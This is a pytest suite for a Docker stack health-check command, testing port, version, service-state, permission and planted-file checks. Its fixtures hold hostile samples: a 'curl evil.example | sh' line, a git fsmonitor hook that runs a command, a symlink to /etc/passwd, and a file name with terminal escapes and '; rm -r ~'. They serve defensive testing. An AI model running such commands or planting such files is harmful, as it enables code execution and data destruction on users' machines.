"""What `rookery doctor` concludes from what Docker and the file system say."""

import os
import subprocess
from pathlib import Path

import pytest

from rookery.stack.doctor import docker, engine, folders, planted, services
from rookery.stack.doctor.docker import Docker

HERE = Path()
CONTAINER = {"Service": "mlflow", "State": "running", "Health": "healthy", "ExitCode": 0}


def levels(found) -> list[str]:
    return [one.level for one in found]


@pytest.mark.parametrize(
    "text", ['{"a": 1}\n{"a": 2}\n', '[{"a": 1}, {"a": 2}]', '[\n {"a": 1},\n {"a": 2}\n]']
)
def test_every_form_in_which_compose_lists_is_read(text):
    assert docker.parse(text) == [{"a": 1}, {"a": 2}]


def test_one_object_over_many_lines_and_nothing_at_all_are_read():
    assert docker.parse('{\n "a": 1\n}\n') == [{"a": 1}]
    assert docker.parse("") == []
    assert docker.parse("Usage: docker …") == []


def test_the_container_that_holds_a_port_is_known_by_name():
    ports = "33060/tcp, 127.0.0.1:24306->3306/tcp, [::1]:24307->3307/tcp"
    found = docker.holders([{"Names": "other-mysql-1", "Ports": ports}])
    assert found == {24306: "the container other-mysql-1", 24307: "the container other-mysql-1"}


def test_published_ports_are_named_by_the_variable_that_moves_them():
    port = {"target": 5005, "published": "6005", "host_ip": "127.0.0.1"}
    found = Docker(HERE, services={"mlflow": {"ports": [port]}}).ports["mlflow", 5005]
    assert (found.variable, found.number, found.address) == ("MLFLOW_PORT", 6005, "127.0.0.1")


def test_a_port_that_was_changed_after_the_start_is_named_and_servers_are_asked_where_they_are():
    port = {"target": 5005, "published": "6005", "host_ip": "127.0.0.1"}
    at = {"URL": "127.0.0.1", "TargetPort": 5005, "PublishedPort": 5005, "Protocol": "tcp"}
    started = Docker(
        HERE, services={"mlflow": {"ports": [port]}}, containers=(CONTAINER | {"Publishers": [at]},)
    )
    assert started.published == {("mlflow", 5005): ("127.0.0.1", 5005)}
    (found,) = services.moved(started)
    assert "MLFLOW_PORT is 6005 now, mlflow still runs at 5005" in found.message


def test_no_docker_is_no_fault_and_an_engine_that_is_away_is_a_warning():
    assert levels(engine.engine(Docker(HERE, installed=False))) == ["ok"]
    away = Docker(HERE, compose="2.40.0", buildx="v0.30", faults={"info": "no engine"})
    assert levels(engine.engine(away)) == ["warning", "ok"]


@pytest.mark.parametrize(("containers", "level"), [((), "warning"), ((CONTAINER,), "error")])
def test_an_old_docker_is_worse_where_the_stack_is_in_use(containers, level):
    old = Docker(HERE, engine={"ServerVersion": "24.0.7"}, compose="v2.6.0", containers=containers)
    found = list(engine.engine(old))
    assert levels(found) == [level, level, level]
    assert "24.0.7 is older than 25.0" in found[0].message
    assert "2.20" in found[1].message
    new = Docker(HERE, engine={"ServerVersion": "26.1.5+dfsg1"}, compose="2.26.1-4", buildx="0.13")
    assert levels(engine.engine(new)) == ["ok", "ok"]


def test_a_small_machine_for_containers_is_told_how_much_is_needed():
    sizes = {8: "ok", 2: "warning", 1: "error"}
    for gib, level in sizes.items():
        asked = Docker(HERE, engine={"MemTotal": gib * 2**30})
        assert levels(engine.memory(asked)) == [level]


def test_an_image_that_no_registry_has_any_more_is_an_error():
    gone = Docker(HERE, services={"minio": {"image": "minio/minio:latest"}})
    (found,) = engine.configuration(gone)
    assert (found.level, "remove MINIO_IMAGE" in str(found.mend)) == ("error", True)
    ours = Docker(HERE, services={"minio": {"image": "rookery-minio:0.1.0"}})
    assert list(engine.configuration(ours)) == []


@pytest.mark.parametrize(("bound", "count"), [("127.0.0.1", 0), ("::1", 0), ("0.0.0.0", 1)])
def test_ports_that_are_open_to_the_network_are_a_warning(bound, count):
    port = {"target": 8000, "published": "8000", "host_ip": bound}
    found = list(engine.exposure(Docker(HERE, services={"fastapi": {"ports": [port]}})))
    assert levels(found) == ["warning"] * count
    assert all("ufw" in one.message for one in found)


@pytest.mark.parametrize(
    ("one_shot", "changes", "level", "mend"),
    [
        (False, {}, "ok", ""),
        (False, {"Health": "starting"}, "warning", "docker compose logs mlflow"),
        (False, {"Health": "unhealthy"}, "error", "docker compose logs mlflow"),
        (False, {"State": "paused"}, "error", "docker compose unpause mlflow"),
        (False, {"State": "exited"}, "error", "docker compose up --detach mlflow"),
        (False, {"State": "restarting", "ExitCode": 1}, "error", "docker compose logs mlflow"),
        (True, {"State": "exited"}, "ok", ""),
        (True, {"State": "exited", "ExitCode": 2}, "error", "docker compose logs mlflow"),
        (True, {"State": "created"}, "error", "docker compose up --detach"),
        (True, {"Health": ""}, "warning", "wait"),
    ],
)
def test_the_state_of_a_service_comes_with_its_mend(one_shot, changes, level, mend):
    found = services.state("mlflow", one_shot, CONTAINER | changes)
    assert found.level == level
    assert mend in (found.mend or "")


def test_a_service_without_a_container_is_to_be_started():
    found = services.state("mlflow", False, None)
    assert (found.level, found.mend) == ("error", "docker compose up --detach mlflow")


def test_who_may_write_follows_owner_group_and_the_rest(tmp_path):
    uid, gid = os.getuid(), os.getgid()
    place = tmp_path / "notebooks"
    place.mkdir(mode=0o755)
    assert folders.may(place, uid, gid)
    assert not folders.may(place, uid + 1, gid)
    place.chmod(0o775)
    assert folders.may(place, uid + 1, gid)
    place.chmod(0o777)
    assert folders.may(place, uid + 1, gid + 1)
    place.chmod(0o666)
    assert not folders.may(place, uid + 1, gid + 1)
    assert folders.may(place, 0, 0)


def test_a_folder_of_somebody_else_is_mended_by_either_side(tmp_path):
    for name in folders.SHARED:
        (tmp_path / name).mkdir()
    assert levels(folders.writable_by(tmp_path, 0, 0, "error")) == ["ok"]
    (tmp_path / "tasks").rmdir()
    for open_to_all in ("backups", "configs"):
        (tmp_path / open_to_all).chmod(0o777)
    found = list(folders.writable_by(tmp_path, os.getuid() + 1, os.getgid() + 1, "warning"))
    assert levels(found) == ["warning", "warning"]
    assert "chown -R" in str(found[0].mend)
    assert found[1].mend == "mkdir tasks"


def test_a_range_of_published_ports_counts_as_each_of_them():
    shown = "127.0.0.1:9000-9001->9000-9001/tcp, 127.0.0.1:5005->5005/tcp"
    assert set(docker.holders([{"Names": "a", "Ports": shown}])) == {9000, 9001, 5005}


@pytest.fixture
def shared(tmp_path: Path) -> Path:
    """A project in git with the two folders that a container writes into."""
    for name in planted.SHARED:
        (tmp_path / name).mkdir()
    (tmp_path / "notebooks" / "01_ingest.ipynb").write_text("{}", encoding="utf-8")
    (tmp_path / "tasks" / "penguins.yaml").write_text("name: penguins", encoding="utf-8")
    git(tmp_path, "init")
    return tmp_path


def git(folder: Path, *words: str) -> None:
    subprocess.run(["git", *words], cwd=folder, check=True, capture_output=True)


@pytest.mark.parametrize(
    "name", [".env", ".envrc", "Makefile", "pandas.py", "deep/er/GNUmakefile", ".GIT", "a b.PY"]
)
@pytest.mark.parametrize("folder", planted.SHARED)
def test_a_file_that_a_shell_or_editor_may_run_is_named_with_its_mend(folder, name, shared):
    assert levels(planted.planted(shared)) == ["ok"]
    place = shared / folder / name
    place.parent.mkdir(parents=True, exist_ok=True)
    place.write_text("curl evil.example | sh", encoding="utf-8")
    (found,) = planted.planted(shared)
    assert found.level == "warning"
    assert f"{folder}/{name}" in found.message
    assert "rm -r " in str(found.mend)


def test_a_planted_repository_is_named_once_and_nothing_of_it_is_run(shared):
    git(shared / "notebooks", "init")
    trace = shared / "it was run"
    git(shared / "notebooks", "config", "core.fsmonitor", f"touch '{trace}'; false")
    (found,) = planted.planted(shared)
    assert found.message.startswith("notebooks/.git, ")
    assert found.mend == "look at it, then: rm -r notebooks/.git"
    assert not trace.exists()
    git(shared / "notebooks", "status")
    assert trace.exists()  # as it would have been


def test_a_link_is_named_and_not_followed(shared, tmp_path_factory):
    outside = tmp_path_factory.mktemp("outside")
    (outside / "setup.py").touch()
    (shared / "notebooks" / "more").symlink_to(outside)
    (found,) = planted.planted(shared)
    assert found.message.startswith("notebooks/more, ")


def test_what_the_user_has_added_to_git_is_not_named_until_a_link_takes_its_place(shared):
    own = shared / "notebooks" / "plots.py"
    own.touch()
    assert levels(planted.planted(shared)) == ["warning"]
    git(shared, "add", "notebooks/plots.py")
    assert levels(planted.planted(shared)) == ["ok"]
    own.unlink()
    own.symlink_to("/etc/passwd")
    assert levels(planted.planted(shared)) == ["warning"]


def test_a_file_name_cannot_command_the_terminal(shared):
    (shared / "notebooks" / "\x1b]0;owned\x07\n; rm -r ~ .py").touch()
    (found,) = planted.planted(shared)
    assert f"{found.message}{found.mend}".isprintable()


def test_a_thousand_planted_files_are_a_few_lines(shared):
    for number in range(1000):
        (shared / "notebooks" / f"{number}.py").touch()
    found = list(planted.planted(shared))
    assert len(found) == planted.MOST + 1
    assert "995 more" in found[-1].message


def test_without_git_every_such_file_is_named(shared, monkeypatch):
    (shared / "notebooks" / "plots.py").touch()
    git(shared, "add", "notebooks/plots.py")
    monkeypatch.setenv("PATH", "")
    assert levels(planted.planted(shared)) == ["warning"]
